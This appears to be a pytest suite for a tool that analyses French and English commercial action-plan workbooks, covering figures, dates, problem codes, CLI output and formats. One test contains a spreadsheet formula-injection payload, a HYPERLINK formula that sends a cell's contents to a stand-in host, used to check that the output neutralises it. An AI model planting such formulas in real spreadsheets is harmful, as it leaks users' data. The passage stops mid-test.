"""The analyzer on workbooks filled the way people fill them, built here by code and saved by
LibreOffice (also as .xls and .ods). Expected figures come from the raw inputs listed in this
file: each typed text stands beside the number it means."""

from __future__ import annotations

import csv
import json
import math
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter
from click.testing import CliRunner
from helpers import make, table_cells
from libreoffice import convert

from pac_excel import schema
from pac_excel.analysis import analyze
from pac_excel.cli import main
from pac_excel.errors import PlanReadError
from pac_excel.templates import get_template

AS_OF = date(2026, 11, 16)

# ------------------------------------------------------------------------------------ 1. the classic printed trame
# (raw as typed, true value) — amounts as text in French and English forms, dates in every form.
TRAME_TITLE = ["PLAN D'ACTION COMMERCIALE SOCIÉTÉ", "Notre vision de l'entreprise à 5 ans : devenir le leader régional",
               "Les objectifs stratégiques que nous poursuivons", "1) Ouvrir 3 points de vente", ""]
TRAME_HEADER = ["ACTIONS", "PHASES, ÉTAPES\n(décrire brièvement et indiquer, selon les cas, les objectifs prévus)",
                "QUI ?\n(qui réalise l'action ?)", "BUDGET", "DATE DÉBUT", "DATE FIN", "OBJECTIF", "RÉSULTAT OBTENU",
                "ANALYSE ÉCARTS"]
# action, steps, owner, (budget raw, value), (start raw, value), (end raw, value), target, result, analysis
TRAME_BLOCK_1 = [
    ("Études de marché", "Clientèle ; concurrence", "Gérante", ("2 000 €", 2000), ("15/01/2026", date(2026, 1, 15)),
     ("2026-03-20", date(2026, 3, 20)), 3, 3, ""),
    ("Finalisation de l'offre", "Positionnement ; prix", "NA", ("12 500,50 €", 12500.5),
     (46113, date(2026, 4, 1)), ("30/06/2026", date(2026, 6, 30)), 12, 8, ""),  # serial in a General cell
    ("Identité commerciale", "Logo ; charte", "Chargée de com", ("1\u00a0234,56", 1234.56),
     (date(2026, 2, 2), date(2026, 2, 2)), ("15 mars 2026", date(2026, 3, 15)), None, None, ""),
]
TRAME_BLOCK_2 = [
    ("Supports de présentation", "Plaquettes ; site", "Chargée de com", ("1\u202f000,25 €", 1000.25),
     ("01/03/2026", date(2026, 3, 1)), ("31/05/2026", date(2026, 5, 31)), 100, 70, ""),
    ("Marketing direct", "200 appels par mois ; mailings", "Commercial", ("2,500.75", 2500.75),
     ("01/04/2026", date(2026, 4, 1)), ("30/04/2026", date(2026, 4, 30)), 20, 25, "Bon fichier"),
    ("Salon régional", "Stand", "", ("750", 750), ("", None), ("", None), None, None, ""),  # budget, no owner
]
TRAME_BAD = [  # unreadable values: reported, never counted
    ("Fidélisation", "Cartes", "Gérante", ("1,234", None), ("31/02/2026", None), ("03/15/2026", None), None, None, ""),
]


def build_trame(path: Path) -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "PAC 2026"
    for line in TRAME_TITLE:
        ws.append([line])
    ws.append(TRAME_HEADER)
    for block in (TRAME_BLOCK_1,):
        for a in block:
            ws.append(_trame_row(a))
    ws.append([])
    # A correct sub-total, typed. (A =SUM() here would be 0: the amounts above are text, and
    # pac-excel would rightly report that the sheet's total disagrees with the true sum.)
    ws.append(["Sous-total", "", "", _sum(a[3][1] for a in TRAME_BLOCK_1)])
    ws.append([])
    ws.append(TRAME_HEADER)  # the header block repeated
    for a in TRAME_BLOCK_2 + TRAME_BAD:
        ws.append(_trame_row(a))
    ws.append(["TOTAL", "", "", 99999])  # a wrong total typed by hand
    ws.append([])
    ws.append(["Liste non limitative"])  # a note under the table
    wb.save(path)


def _trame_row(a) -> list:
    action, steps, owner, (b, _), (s, _), (e, _), target, result, analysis = a
    return [action, steps, owner, b, s, e, target, result, analysis]


# ------------------------------------------------------------------------------------ 2. an English home-made sheet
EN_HEADER = ["Owner", "Actions", "Budget (€)", "Start", "End", "Target", "Actual", "Status", "Notes"]
EN_ROWS = [
    ("Ann", "Webinar", ("1,234.56", 1234.56), date(2026, 9, 1), date(2026, 9, 30), 50, 20, "Done", ""),
    ("Bo", "Cold calls", (800, 800), date(2026, 10, 1), date(2026, 10, 31), 10, None, "In progress", ""),
    ("Ann", "Newsletter", ("15 %", None), date(2026, 12, 1), date(2026, 12, 31), None, None, "To do", ""),
]


def build_english(path: Path) -> None:
    wb = xlsxwriter.Workbook(path)
    ws = wb.add_worksheet("Sales plan")
    df = wb.add_format({"num_format": "yyyy-mm-dd"})
    ws.write_row(2, 1, EN_HEADER)  # starts at B3, a title above
    ws.write(0, 1, "Sales plan 2026")
    for i, (owner, action, (b, _), s, e, t, r, st, _note) in enumerate(EN_ROWS):
        row = 3 + i
        ws.write_row(row, 1, [owner, action])
        ws.write(row, 3, b)
        ws.write_datetime(row, 4, datetime(s.year, s.month, s.day), df)
        ws.write_datetime(row, 5, datetime(e.year, e.month, e.day), df)
        for c, v in ((6, t), (7, r)):
            if v is not None:
                ws.write_number(row, c, v)
        ws.write_string(row, 8, st)
    wb.close()


# ------------------------------------------------------------------------------------ 3. our own workbook, filled
OWN_ROWS = [  # (action, owner, budget planned, budget actual, end, status, target, result, objective)
    ("Salon 1", "Alice", 2000, 2150, date(2026, 2, 12), "Terminé", 40, 46, "OBJ-1"),
    ("Salon 2", "Bob", 8000, 9200, date(2026, 5, 21), "En cours", 130, 98, "OBJ-1"),
    ("Site web", "Alice", 9000, None, date(2027, 1, 31), "En cours", None, None, ""),
]
OWN_BELOW = ("Typed below the table", "Bob", 300, 250, date(2026, 6, 1), "Terminé", 5, 5, "OBJ-2")


def build_own(src: Path) -> Path:
    """Our template filled by a person: 4 table rows, a blank row, a row typed below the table,
    the sheet renamed, one computed cell overwritten, one formula in error."""
    blank = make(src, "own_model.xlsx", actions=4)
    wb = openpyxl.load_workbook(blank)
    ws = wb[schema.sheet_name("actions", "fr")]
    headers, rows = table_cells(ws, ws.tables["T_Actions"])
    col = {c.key: headers.index(c.label("fr")) for c in schema.ACTIONS.columns if c.label("fr") in headers}

    def put(r: int, values) -> None:
        keys = ("action", "owner", "budget_planned", "budget_actual", "end", "status", "target", "result", "objective")
        for k, v in zip(keys, values):
            if v is not None:
                ws.cell(r, col[k] + 1).value = datetime(v.year, v.month, v.day) if isinstance(v, date) else v

    first = rows[0][0].row
    put(first, OWN_ROWS[0])
    put(first + 2, OWN_ROWS[1])  # a blank row between
    put(first + 3, OWN_ROWS[2])
    put(first + 5, OWN_BELOW)  # below the 4-row table, after a blank row
    ws.cell(first, col["variance"] + 1).value = 999  # a computed cell overwritten
    ws.cell(first + 3, col["budget_actual"] + 1).value = "=1/0"  # a formula in error
    ws.title = "Actions 2026"  # renamed
    out = src / "own_filled.xlsx"
    wb.save(out)
    return out


# ------------------------------------------------------------------------------------ corpus, through LibreOffice
@pytest.fixture(scope="module")
def corpus(lo_available, tmp_path_factory):
    src = tmp_path_factory.mktemp("corpus")
    build_trame(src / "trame.xlsx")
    build_english(src / "english.xlsx")
    own = build_own(src)
    out = tmp_path_factory.mktemp("corpus-lo")
    files = {}
    files["trame.xlsx"], files["english.xlsx"], files["own.xlsx"] = convert(
        [src / "trame.xlsx", src / "english.xlsx", own], out / "xlsx")
    # one LibreOffice start per format, both workbooks in it
    files["trame.xls"], files["own.xls"] = convert([files["trame.xlsx"], files["own.xlsx"]], out / "xls", fmt="xls")
    files["trame.ods"], files["own.ods"] = convert([files["trame.xlsx"], files["own.xlsx"]], out / "ods", fmt="ods")
    files["trame.xlsm"] = convert([files["trame.xlsx"]], out / "xlsm", fmt="xlsm:Calc MS Excel 2007 VBA XML")[0]
    files["own_unsaved.xlsx"] = own  # written by openpyxl, never opened: no cached values at all
    return files


def _sum(values) -> float:
    return round(math.fsum(v for v in values if v is not None), 2)


def _codes(result) -> list[tuple[str, str | None]]:
    return sorted((p.code, p.cell) for p in result.problems)


@pytest.mark.parametrize("fmt", ["trame.xlsx", "trame.xls", "trame.ods", "trame.xlsm"])
def test_printed_trame_is_read_exactly_in_every_format(corpus, fmt):
    res = analyze(corpus[fmt], as_of=AS_OF)
    good = TRAME_BLOCK_1 + TRAME_BLOCK_2
    rows = good + TRAME_BAD
    assert [a.action for a in res.actions] == [r[0] for r in rows]  # totals and repeated header not counted
    tot = res.totals()
    assert tot["actions"] == len(rows)
    assert tot["budget_planned"] == _sum(r[3][1] for r in rows)
    assert tot["budget_actual"] is None and tot["revenue_actual"] is None  # absent columns: unknown, not 0
    assert [a.start for a in res.actions] == [r[4][1] for r in rows]
    assert [a.end for a in res.actions] == [r[5][1] for r in rows]
    assert [a.owner for a in res.actions][1] == "NA"  # a name, not a missing value
    by_owner = res.group("owner")
    assert by_owner["NA"]["budget_planned"] == 12500.5
    codes = _codes(res)
    bad_row = [a.row for a in res.actions if a.action == "Fidélisation"][0]
    assert ("ambiguous_number", f"D{bad_row}") in codes
    assert ("invalid_date", f"E{bad_row}") in codes
    assert ("ambiguous_date", f"F{bad_row}") in codes
    mismatches = [p for p in res.problems if p.code == "total_mismatch"]
    assert len(mismatches) == 1 and mismatches[0].cell.startswith("D")  # the wrong TOTAL; the sub-total is right
    true_sum = f"{_sum(r[3][1] for r in rows):,.2f}".replace(",", "\u202f").replace(".", ",").removesuffix(",00")
    assert f"({true_sum})" in mismatches[0].message()  # its headers name no currency: no mark guessed
    salon = [a for a in res.actions if a.action == "Salon régional"][0]
    assert ("budget_without_owner", f"C{salon.row}") in codes
    # law of numbers: "200 appels par mois" over one month for 25 contacts would be fine; here the
    # indicator column is absent, so the check cannot apply and must stay silent
    assert "law_of_numbers" not in {c for c, _ in codes}


def test_english_home_made_sheet_with_moved_columns(corpus):
    res = analyze(corpus["english.xlsx"], as_of=AS_OF)
    assert [a.action for a in res.actions] == [r[1] for r in EN_ROWS]
    assert [a.owner for a in res.actions] == [r[0] for r in EN_ROWS]
    assert res.totals()["budget_planned"] == _sum(r[2][1] for r in EN_ROWS)
    assert [a.status_key for a in res.actions] == ["done", "in_progress", "todo"]
    assert [a.late for a in res.actions] == [False, True, False]
    # "15 %" in a money column is not an amount
    assert ("invalid_number", "D6") in _codes(res)
    first = res.actions[0]
    assert first.variance == 20 - 50 and first.attainment == 20 / 50


@pytest.mark.parametrize("name", ["own.xlsx", "own_unsaved.xlsx", "own.xls", "own.ods"])
def test_own_workbook_filled_by_a_person(corpus, name):
    res = analyze(corpus[name], as_of=AS_OF)
    assert res.template == {"id": "pac", "version": get_template("pac").version}
    expected = OWN_ROWS + [OWN_BELOW]
    assert [a.action for a in res.actions] == [r[0] for r in expected]
    assert {a.sheet for a in res.actions} == {"Actions 2026"}
    tot = res.totals()
    assert tot["budget_planned"] == _sum(r[2] for r in expected)
    # the budget typed as "=1/0" is an error value: reported, counted nowhere
    actual = [r[3] for r in expected]
    actual[2] = None
    assert tot["budget_actual"] == _sum(actual)
    late = [r[4] < AS_OF and r[5] not in ("Terminé", "Abandonné") for r in expected]
    assert [a.late for a in res.actions] == late
    assert tot["late"] == sum(late)
    assert res.actions[0].variance == OWN_ROWS[0][7] - OWN_ROWS[0][6]  # recomputed, not the typed 999
    codes = {c for c, _ in _codes(res)}
    if name.endswith(".xlsx"):  # formula cells are known in OOXML only
        assert "computed_overwritten" in codes
    if name != "own_unsaved.xlsx":  # LibreOffice computed the error; a file never opened has no value to show
        errors = [p for p in res.problems if p.code == "error_value"]
        assert [(p.row, p.params["value"]) for p in errors] == [(res.actions[2].row, "#DIV/0!")]
    assert "no_objective_link" in codes
    site = [p for p in res.problems if p.code == "no_objective_link"]
    assert [p.row for p in site] == [res.actions[2].row]


def test_an_ods_content_is_walked_once_for_all_its_sheets(corpus, monkeypatch):
    """content.xml holds every sheet of an .ods: the error / formula / hidden-row pass over it is
    made once for the whole analysis (actions, indicators, objectives), not once per sheet, and
    finds what it found sheet by sheet (the figures of test_own_workbook_filled_by_a_person)."""
    from pac_excel.read import ods

    walks = []
    real = ods.walk
    monkeypatch.setattr(ods, "walk", lambda *a, **k: walks.append(k) or real(*a, **k))
    res = analyze(corpus["own.ods"], as_of=AS_OF, bounded=False)
    assert len(walks) == 1
    errors = [p for p in res.problems if p.code == "error_value"]
    assert [(p.row, p.params["value"]) for p in errors] == [(res.actions[2].row, "#DIV/0!")]


def test_variance_threshold_and_past_end_checks(tmp_path):
    from pac_excel import GenerateOptions, PlanData, generate

    data = PlanData(as_of=AS_OF, actions=[
        dict(action="Big miss", owner="A", objective="OBJ-1", target=100, result=70, end=date(2026, 3, 1),
             status="Terminé", budget_planned=10),
        dict(action="Explained miss", owner="A", objective="OBJ-1", target=100, result=70, end=date(2026, 3, 1),
             status="Terminé", variance_analysis="Grève des transports"),
        dict(action="Small miss", owner="A", objective="OBJ-1", target=100, result=85, end=date(2026, 3, 1),
             status="Terminé"),
        dict(action="Overshoot", owner="A", objective="OBJ-1", target=100, result=130, end=date(2026, 3, 1),
             status="Terminé"),
        dict(action="Not due yet", owner="A", objective="OBJ-1", target=100, result=30, end=date(2026, 12, 31),
             status="En cours"),
        dict(action="No result", owner="A", objective="OBJ-1", target=10, end=date(2026, 3, 1), status="En cours"),
        dict(action="Backwards", owner="A", objective="OBJ-1", start=date(2026, 5, 1), end=date(2026, 4, 1)),
        dict(action="Calls", owner="A", objective="OBJ-2", indicator="Rendez-vous obtenus", target=10,
             steps="20 appels", start=date(2026, 12, 1), end=date(2026, 12, 20)),
    ], objectives=[dict(id="OBJ-1", objective="Gagner des clients", indicator="Clients"),
                   dict(id="OBJ-2", objective="Entrer chez 3 grands comptes")],
        kpis=[dict(name="Clients actifs", initial=150), dict(name="Réclamations", initial=10, target=5, m01=8)])
    path = generate(tmp_path / "checks.xlsx", GenerateOptions(year=2026), data)
    res = analyze(path, as_of=AS_OF)
    rows = {a.action: a.row for a in res.actions}
    codes = _codes(res)
    cols = {c.key: i for i, c in enumerate(get_template("pac").columns("actions"))}
    from pac_excel.a1 import col_letter

    def cell(key, action):
        return f"{col_letter(cols[key])}{rows[action]}"

    assert ("variance_unexplained", cell("variance_analysis", "Big miss")) in codes
    assert not any(c == "variance_unexplained" and x in (cell("variance_analysis", "Explained miss"),
                                                         cell("variance_analysis", "Small miss")) for c, x in codes)
    # an overshoot needs no excuse unless asked both ways; a shortfall before the end date is work to do
    unexplained = {x for c, x in codes if c == "variance_unexplained"}
    assert cell("variance_analysis", "Overshoot") not in unexplained
    assert cell("variance_analysis", "Not due yet") not in unexplained
    both = {x for c, x in _codes(analyze(path, as_of=AS_OF, both_ways=True)) if c == "variance_unexplained"}
    assert both == unexplained | {cell("variance_analysis", "Overshoot")}
    assert ("past_end_no_result", cell("result", "No result")) in codes
    assert ("end_before_start", cell("end", "Backwards")) in codes
    assert ("law_of_numbers", cell("steps", "Calls")) in codes  # 20 calls < 3 × 10 meetings
    res2 = analyze(path, as_of=AS_OF, stage="growth")
    assert "law_of_numbers" not in {c for c, _ in _codes(res2)}  # 20 ≥ 2 × 10: enough in development
    assert [p.params["value"] for p in res.problems if p.code == "objective_without_indicator"] == \
        ["Entrer chez 3 grands comptes"]
    kpi_missing = [p for p in res.problems if p.code == "kpi_missing_values"]
    assert [(p.params["value"], p.params["column"]) for p in kpi_missing] == [("Clients actifs", "valeur cible")]
    kp = {k.name: k for k in res.kpis}
    assert kp["Réclamations"].attainment == (8 - 10) / (5 - 10)


def test_1904_date_system(tmp_path):
    path = tmp_path / "mac.xlsx"
    wb = xlsxwriter.Workbook(path, {"date_1904": True})
    ws = wb.add_worksheet()
    ws.write_row(0, 0, ["Action", "Qui", "Budget", "Date début", "Date fin"])
    ws.write_row(1, 0, ["Salon", "Alice", 100])
    serial_1904 = (date(2026, 12, 31) - date(1904, 1, 1)).days
    ws.write_number(1, 3, serial_1904)  # a serial in a General cell, 1904 system
    ws.write_datetime(1, 4, datetime(2027, 1, 15), wb.add_format({"num_format": "dd/mm/yyyy"}))
    wb.close()
    res = analyze(path, as_of=AS_OF)
    assert res.actions[0].start == date(2026, 12, 31) and res.actions[0].end == date(2027, 1, 15)


def test_not_a_plan_and_not_a_workbook(tmp_path):
    empty = tmp_path / "nothing.xlsx"
    wb = xlsxwriter.Workbook(empty)
    wb.add_worksheet().write("A1", "Bonjour")
    wb.close()
    with pytest.raises(PlanReadError) as err:
        analyze(empty)
    assert err.value.key == "read.no_table"
    junk = tmp_path / "junk.xlsx"
    junk.write_text("name,budget\nx,1\n")
    with pytest.raises(PlanReadError):
        analyze(junk)
    r = CliRunner().invoke(main, ["analyze", str(junk)])
    assert r.exit_code == 1 and "Traceback" not in r.output and "junk.xlsx" in r.output


# ------------------------------------------------------------------------------------ the command line
def test_analyze_json_contract(corpus, tmp_path):
    r = CliRunner().invoke(main, ["analyze", str(corpus["trame.xlsx"]), "--as-of", "2026-11-16", "--format", "json"])
    assert r.exit_code == 0, r.output
    d = json.loads(r.output)
    assert set(d) == {"source", "template", "as_of", "currency", "totals", "by_owner", "by_category", "by_status",
                      "by_objective", "actions", "kpis", "pipeline", "funnel",
                      "problems"}
    assert d["as_of"] == "2026-11-16" and d["template"] is None and d["currency"] is None
    assert set(d["totals"]) == {"actions", "budget_planned", "budget_actual", "budget_variance", "budget_unspent",
                                "revenue_expected", "revenue_actual", "late", "done"}
    assert d["totals"]["budget_actual"] is None
    a = d["actions"][0]
    documented = {"sheet", "row", "action", "owner", "category", "status", "objective", "budget_planned",
                  "budget_actual", "start", "end", "target", "result", "variance", "attainment", "late",
                  "progress", "status_key", "category_key"}
    record_keys = {c.key for c in schema.ACTIONS.columns if c.record} | {"sheet", "row", "status_key", "category_key"}
    assert documented <= set(a) == record_keys  # keys are added (from the schema), never renamed
    assert a["start"] == "2026-01-15" and a["budget_planned"] == 2000
    assert {p["severity"] for p in d["problems"]} <= {"error", "warning"}
    assert all(set(p) == {"severity", "code", "sheet", "cell", "message"} for p in d["problems"])


def test_check_exit_codes(corpus, tmp_path):
    r = CliRunner().invoke(main, ["check", str(corpus["trame.xlsx"]), "--as-of", "2026-11-16"])
    assert r.exit_code == 1 and "ambiguous_number" in r.output  # errors present
    clean = make(tmp_path, "clean.xlsx")
    r = CliRunner().invoke(main, ["check", str(clean), "--format", "json", "--lang", "en"])
    assert r.exit_code == 0 and json.loads(r.output)["problems"] == []
    assert CliRunner().invoke(main, ["analyze", str(clean), "--as-of", "16/11/2026"]).exit_code == 2


def test_report_workbook_and_csv_keep_hostile_text_as_text(tmp_path):
    from pac_excel import GenerateOptions, PlanData, generate

    evil = '=HYPERLINK("http://x/?d="&A1,"Clic")'
    src = generate(tmp_path / "evil.xlsx", GenerateOptions(),
                   PlanData(actions=[dict(action=evil, owner="+33 6", budget_planned=10, objective="OBJ-1")]))
    before = src.read_bytes()
    out = tmp_path / "report.xlsx"
    r = CliRunner().invoke(main, ["analyze", str(src), "-o", str(out), "--format", "csv", "--csv-dialect", "rfc4180"])
    assert r.exit_code == 0, r.output
    assert src.read_bytes() == before  # the input is never written
    lines = r.output.strip().splitlines()
    row = dict(zip(*csv.reader(lines[:2])))  # by header: the columns come from the schema
    assert row["action"].startswith("'=HYPERLINK") and row["owner"] == "'+33 6"
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == ["Synthèse", "Écarts", "Retards", "Indicateurs", "Problèmes"]
    cell = wb["Écarts"]["C2"]
    assert cell.value == evil and cell.data_type == "s"
    again = CliRunner().invoke(main, ["analyze", str(src), "-o", str(out)])
    assert again.exit_code == 1 and "--force" in again.output
    same = CliRunner().invoke(main, ["analyze", str(src), "-o", str(src), "--force"])
    assert same.exit_code == 2 and src.read_bytes() == before


def test_dataframes(corpus):
    """Every field of the records, with real dtypes: what pandas users filter and sum on."""
    import dataclasses

    import pandas as pd

    from pac_excel.analysis import Action, Kpi

    res = analyze(corpus["trame.xlsx"], as_of=AS_OF)
    df = res.actions_frame()
    assert list(df.columns) == [f.name for f in dataclasses.fields(Action)] and len(df) == len(res.actions)
    assert df["budget_planned"].sum() == pytest.approx(res.totals()["budget_planned"])
    assert pd.api.types.is_datetime64_any_dtype(df["end"]) and df["budget_planned"].dtype == "float64"
    assert isinstance(df["status"].dtype, pd.CategoricalDtype) and df["late"].dtype == "boolean"
    ends = [pd.Timestamp(a.end) if a.end else pd.NaT for a in res.actions]
    assert [e if pd.notna(e) else None for e in df["end"]] == [e if pd.notna(e) else None for e in ends]
    assert int(df["late"].sum()) == res.totals()["late"]
    assert list(res.kpis_frame().columns) == [f.name for f in dataclasses.fields(Kpi)]


def test_terminal_summary_uses_rich_tables_on_a_terminal(corpus):
    import io

    from pac_excel.report.text import render

    class Tty(io.StringIO):
        def isatty(self) -> bool:
            return True

    res = analyze(corpus["trame.xlsx"], as_of=AS_OF)
    out = Tty()
    render(res, "en", out)
    text = out.getvalue()
    assert "Totals" in text and "Late actions" in text and "ambiguous_number" in text and "│" in text
    plain = io.StringIO()
    render(res, "fr", plain)
    assert "Totaux" in plain.getvalue() and "│" not in plain.getvalue()


@pytest.mark.parametrize("template", ["pac", "trame", "objectif"])
@pytest.mark.parametrize("lang", ["fr", "en"])
def test_own_workbooks_of_every_template_and_language(tmp_path, template, lang):
    from pac_excel import GenerateOptions, PlanData, generate

    st = {k: schema.STATUS.label(k, lang) for k, _ in schema.STATUS.values}
    rows = [dict(owner="Ann", budget=1200.5, status=st["done"], deadline=date(2026, 3, 1)),
            dict(owner="Bo", budget=300, status=st["in_progress"], deadline=date(2026, 6, 1)),
            dict(owner="Ann", status=st["todo"], deadline=date(2027, 1, 1))]
    if template == "objectif":
        data = PlanData(tasks=[dict(task=f"Task {i}", **r) for i, r in enumerate(rows)])
    else:
        # the trame's pre-listed families are filled in place: no action name given
        data = PlanData(actions=[dict(objective="OBJ-1", owner=r["owner"], budget_planned=r.get("budget"),
                                      status=r["status"], end=r["deadline"],
                                      **({} if template == "trame" else {"action": f"Action {i}"}))
                                 for i, r in enumerate(rows)])
    path = generate(tmp_path / "plan.xlsx", GenerateOptions(template=template, lang=lang, year=2026), data)
    res = analyze(path, as_of=AS_OF)
    assert res.template["id"] == template
    names = [a.action for a in res.actions]
    if template == "trame":
        assert len(names) == 15 and names[0] == ("Études de marché préalables" if lang == "fr"
                                                 else "Preliminary market research")
    else:
        assert len(names) == len(rows)
    assert res.totals()["budget_planned"] == _sum(r.get("budget") for r in rows)
    assert res.totals()["late"] == sum(r["deadline"] < AS_OF and r["status"] != st["done"] for r in rows)
    assert res.totals()["done"] == 1


def test_streamed_json_equals_the_dict_contract(corpus):
    res = analyze(corpus["trame.xlsx"], as_of=AS_OF)
    r = CliRunner().invoke(main, ["analyze", str(corpus["trame.xlsx"]), "--as-of", "2026-11-16", "--format", "json"])
    assert json.loads(r.output) == json.loads(json.dumps(res.to_dict()))


# ------------------------------------------------------------------------------------ large sheets
def _large_rows(n: int) -> list[dict]:
    return [dict(action=f"Relance {i}", owner=f"Vendeur {i % 5}", status=["Terminé", "En cours", "À faire"][i % 3],
                 objective="OBJ-1", budget_planned=500 + i, budget_actual=450 + i % 90,
                 start=date(2026, 1, 1 + i % 28), end=date(2026, 2 + i % 10, 1 + i % 27),
                 target=50, result=20 + i % 45)
            for i in range(n)]


def test_large_sheet_parsed_in_the_background_reads_the_same(lo_available, tmp_path, monkeypatch):
    """An action sheet large enough to be parsed in a background thread (with its XML scanned
    meanwhile) gives exactly the analysis of a plain read: error cells and hidden rows found,
    figures equal to the inputs. The workbook is filled, then recalculated and saved by LibreOffice."""
    import zipfile

    from pac_excel import GenerateOptions, PlanData, generate
    from pac_excel.read import workbook as wbmod

    rows = _large_rows(300)
    src = generate(tmp_path / "large.xlsx", GenerateOptions(actions=len(rows), force=True, year=2026),
                   PlanData(actions=rows))
    book = openpyxl.load_workbook(src)
    ws = book[schema.sheet_name("actions", "fr")]
    headers, cells = table_cells(ws, ws.tables["T_Actions"])
    col = {c.key: headers.index(c.label("fr")) for c in schema.ACTIONS.columns if c.label("fr") in headers}
    first = cells[0][0].row
    ws.cell(first + 5, col["budget_actual"] + 1).value = "=1/0"
    ws.row_dimensions[first + 7].hidden = True
    book.save(tmp_path / "filled.xlsx")
    path = convert([tmp_path / "filled.xlsx"], tmp_path / "lo")[0]
    with zipfile.ZipFile(path) as z:
        sizes = [i.file_size for i in z.infolist() if i.filename.startswith("xl/worksheets/sheet")]
    assert max(sizes) >= wbmod.PREFETCH_FROM  # the test exercises the background path

    settled: list[str] = []
    real_settle = wbmod.Workbook._settle

    def spy(self):
        settled.extend(self._pending)
        return real_settle(self)

    monkeypatch.setattr(wbmod.Workbook, "_settle", spy)
    background = analyze(path, as_of=AS_OF, bounded=False)  # in this process: the spy sees it
    assert settled == [schema.sheet_name("actions", "fr")]
    monkeypatch.setattr(wbmod, "PREFETCH_FROM", 1 << 40)
    settled.clear()
    plain = analyze(path, as_of=AS_OF, bounded=False)
    assert settled == []
    assert background.to_dict() == plain.to_dict()

    tot = background.totals()
    assert tot["actions"] == len(rows)
    assert tot["budget_planned"] == _sum(r["budget_planned"] for r in rows)
    assert tot["budget_actual"] == _sum(r["budget_actual"] for i, r in enumerate(rows) if i != 5)
    errors = [(p.cell, p.params["value"]) for p in background.problems if p.code == "error_value"]
    assert errors == [(f"{chr(ord('A') + col['budget_actual'])}{first + 5}", "#DIV/0!")]
    hidden = [p for p in background.problems if p.code == "hidden_rows"]
    assert len(hidden) == 1 and hidden[0].params["value"] == "1"


def test_background_parse_failure_is_a_clear_error(tmp_path, monkeypatch):
    """A sheet that calamine cannot parse in the background thread ends as the usual one-line
    error, raised in the caller's thread."""
    import threading

    from pac_excel import GenerateOptions, PlanData, generate
    from pac_excel.read import workbook as wbmod

    path = generate(tmp_path / "plan.xlsx", GenerateOptions(actions=20, force=True), PlanData(actions=_large_rows(20)))
    monkeypatch.setattr(wbmod, "PREFETCH_FROM", 0)
    real_parse = wbmod.Workbook._parse

    def failing(self, name):
        if threading.current_thread() is not threading.main_thread():
            raise PlanReadError("read.unreadable", path=self.path, detail=f"{name}: broken")
        return real_parse(self, name)

    monkeypatch.setattr(wbmod.Workbook, "_parse", failing)
    monkeypatch.setenv("PAC_EXCEL_NO_LIBREOFFICE", "1")  # the last layer would fail the same way, slowly
    with pytest.raises(PlanReadError) as exc:
        analyze(path, as_of=AS_OF, bounded=False)
    assert exc.value.key == "read.unreadable" and exc.value.params["detail"].endswith("broken")
    assert str(path) in exc.value.message("fr") and "broken" not in exc.value.message("fr")
    r = CliRunner().invoke(main, ["analyze", str(path)])  # bounded: the forked reader carries the patch
    assert r.exit_code == 1 and "Traceback" not in r.output and str(path) in r.output


@pytest.mark.parametrize("template", ["pac", "trame", "objectif"])
@pytest.mark.parametrize("lang", ["fr", "en"])
def test_a_blank_workbook_raises_no_problem(tmp_path, template, lang):
    """A freshly generated plan, pre-listed rows included (the trame lists 15 families of
    actions), has nothing to fix: a title alone is not yet a planned action."""
    from pac_excel import GenerateOptions, generate

    path = generate(tmp_path / "blank.xlsx", GenerateOptions(template=template, lang=lang))
    assert analyze(path, as_of=AS_OF).problems == []


def test_report_and_consolidated_workbooks_read_as_the_plan(tmp_path):
    """Issue 15, defect 5: numbers as typed (no "40." from "#,##0.##"), amounts in the plan's own
    format, a row number kept apart from the action text, severities in the workbook's language."""
    from pac_excel import GenerateOptions, PlanData, generate
    from pac_excel.report.workbook import write_report

    sample = generate(tmp_path / "plan.xlsx", GenerateOptions(year=2026), PlanData(actions=[
        dict(action="Achat de fichier", owner="Ann", objective="OBJ-1", budget_planned=1000.5, budget_actual=1200,
             target=40, result=12.5, start=date(2026, 2, 1), end=date(2026, 3, 1), status="Terminé"),
        dict(action="Salon", budget_planned=2500, start=date(2026, 5, 1), end=date(2026, 4, 1))]))
    a = analyze(sample, as_of=AS_OF)
    assert {p.severity for p in a.problems} == {"error", "warning"}
    report = write_report(a, tmp_path / "report.xlsx")
    conso = tmp_path / "conso.xlsx"
    r = CliRunner().invoke(main, ["consolidate", str(sample), "-o", str(conso), "--as-of", AS_OF.isoformat()])
    assert r.exit_code == 0, r.output
    money = schema.NUMBER_FORMATS[schema.Kind.MONEY]
    for path in (sample, report, conso):
        wb = openpyxl.load_workbook(path)
        formats = {c.number_format for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, float)}
        assert not [f for f in formats if ".#" in f], (path.name, formats)
        assert not [f for f in formats if "€" in f and f != money], (path.name, formats)
    wb = openpyxl.load_workbook(report)
    ws = wb["Écarts"]
    head = [c.value for c in ws[1]]
    row_col = head.index("Ligne") + 1
    assert all(ws.cell(r, row_col).alignment.horizontal == "center" for r in range(2, ws.max_row + 1))
    severities = {r[0] for r in wb["Problèmes"].iter_rows(min_row=2, values_only=True)}
    assert severities and severities <= {"erreur", "avertissement"}
    severities = {r[0] for r in openpyxl.load_workbook(conso)["Problèmes"].iter_rows(min_row=2, values_only=True)}
    assert severities and severities <= {"erreur", "avertissement"}


def test_priority_and_progress_are_read_and_100_percent_is_never_late(tmp_path):
    """Issue 15: the plan has Priorité (a list) and % d'avancement; at 100 % an action is not late
    whatever its status, in the workbook's own formula (its cached value) and in the analysis."""
    from pac_excel import GenerateOptions, PlanData, generate

    past = date(2026, 10, 1)
    rows = [dict(action="Finie", status="En cours", progress=1.0, priority="Haute", end=past),
            dict(action="À moitié", status="En cours", progress=0.5, priority="basse", end=past),
            dict(action="Sans avancement", status="En cours", priority="P2", end=past)]
    path = generate(tmp_path / "p.xlsx", GenerateOptions(year=2026), PlanData(as_of=AS_OF, actions=rows))
    a = analyze(path, as_of=AS_OF)
    assert [x.priority for x in a.actions] == ["Haute", "Basse", "Moyenne"]  # canonical labels
    assert [x.progress for x in a.actions] == [r.get("progress") for r in rows]
    assert [x.late for x in a.actions] == [False, True, True]
    wb = openpyxl.load_workbook(path, data_only=True)  # the cached values of its own formula agree
    ws = wb[schema.sheet_name("actions", "fr")]
    headers, cells = table_cells(ws, ws.tables["T_Actions"])
    late = headers.index(schema.ACTIONS.column("late").label("fr"))
